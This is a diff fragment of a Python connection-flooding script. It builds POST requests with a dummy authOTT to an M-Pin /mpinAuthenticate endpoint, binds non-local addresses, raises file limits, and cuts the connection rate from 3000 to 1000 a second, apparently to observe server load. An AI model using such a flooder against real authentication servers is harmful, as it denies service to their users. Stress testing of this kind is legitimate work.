@@ -15,8 +15,8 @@ import time
 HEAD = b"POST /mpinAuthenticate HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n"
 BODY = b'{"mpinResponse":{"authOTT":"%s"}}' % (b"00" * 32)
 IP_FREEBIND = 15
-# New connections in a second, which is more than a server of two processors has time for.
-PACE = 3000
+# New connections in a second.
+PACE = 1000
 
 
 def first(kind, host):
@@ -111,5 +111,6 @@ class Crowd:
 if __name__ == "__main__":
     hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
-    os.nice(5)
+    # The crowd is not to take the processors: what it does to the server is to be seen.
+    os.nice(19)
     Crowd(sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4:]).run()
